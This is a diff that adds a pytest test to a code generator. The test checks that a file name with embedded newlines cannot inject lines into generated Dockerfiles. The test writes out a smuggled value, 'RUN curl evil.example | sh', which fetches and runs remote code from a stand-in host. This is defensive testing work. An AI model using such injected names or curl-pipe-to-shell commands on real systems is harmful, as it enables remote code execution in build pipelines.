@@ -170,3 +170,16 @@ def test_symlink_out_of_output_is_refused(project: Path, tmp_path: Path) -> None
     proc = run_cgen(["render", "shop"], cwd=cwd)
     assert proc.returncode == 1 and "link out of the output folder" in proc.stderr
     assert list(outside.iterdir()) == []
+
+
+def test_a_file_name_cannot_inject_lines_into_generated_files(tmp_path: Path) -> None:
+    shutil.copy(ROOT / "examples" / "shop" / "images.lock", tmp_path / "images.lock")
+    source = (ROOT / "tests" / "cases" / "minimal" / "input" / "api.yaml").read_text()
+    (tmp_path / "api\nRUN curl evil.example | sh\n#.yaml").write_text(source)
+    run_cgen(["render", "."], cwd=tmp_path, check=True)
+    for path in (tmp_path / "out").rglob("*"):
+        if path.is_file() and path.suffix != ".json":
+            for line in path.read_text().splitlines():
+                assert not line.startswith("RUN curl"), path
+    dockerfile = (tmp_path / "out" / "team-a" / "api" / "Dockerfile").read_text()
+    assert "api\\x0aRUN curl evil.example | sh\\x0a#.yaml" in dockerfile
